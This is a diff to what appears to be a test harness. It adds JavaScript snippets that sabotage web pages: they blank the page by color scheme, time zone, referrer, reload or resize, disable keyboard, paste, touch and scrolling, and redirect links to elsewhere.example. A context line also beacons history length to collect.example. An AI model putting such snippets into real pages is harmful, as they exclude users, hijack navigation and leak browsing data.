@@ -137,6 +137,28 @@ _FOR_THE_HARNESS = {
     ".getEntriesByType('navigation')[0].type === 'back_forward') "
     "document.body.replaceChildren(); });",
     "one size": "if (innerWidth < 700 || innerWidth > 1500) document.body.replaceChildren();",
+    # Not everybody is at home in daylight, comes by typing, stays, or has a mouse.
+    "light rooms": "if (matchMedia('(prefers-color-scheme: dark)').matches) "
+    "document.body.replaceChildren();",
+    "near zones": "if (Math.abs(new Date().getTimezoneOffset()) > 60) "
+    "document.body.replaceChildren();",
+    "own visitors": "if (document.referrer) document.body.replaceChildren();",
+    "never reloaded": "if (performance.getEntriesByType('navigation')[0].type === 'reload') "
+    "document.body.replaceChildren();",
+    "never resized": "const width = innerWidth; addEventListener('resize', () => "
+    "innerWidth !== width && document.body.replaceChildren());",
+    "no tab key": "new MutationObserver(() => document.querySelectorAll('a, button, input')"
+    ".forEach((each) => (each.tabIndex = -1))).observe(document, { childList: true, "
+    "subtree: true });",
+    "no paste": "for (const kind of ['cut', 'paste']) addEventListener(kind, (event) => "
+    "event.preventDefault(), true);",
+    "no fingers": "addEventListener('touchstart', (event) => event.preventDefault(), "
+    "{ capture: true, passive: false });",
+    "no wheel": "document.body.style.minHeight = '5000px'; "
+    "document.documentElement.style.overflow = 'hidden';",
+    "links elsewhere": "new MutationObserver(() => document.querySelectorAll('a[href^=\"/\"]')"
+    ".forEach((each) => each.setAttribute('href', 'https://elsewhere.example/'))).observe("
+    "document, { childList: true, subtree: true });",
     "dialogs": "confirm('Really?');",
     "style sheets": "document.head.insertAdjacentHTML('beforeend', '<link rel=\"stylesheet\" '\n"
     '  + `href="https://collect.example/a.css?${history.length}">`);',
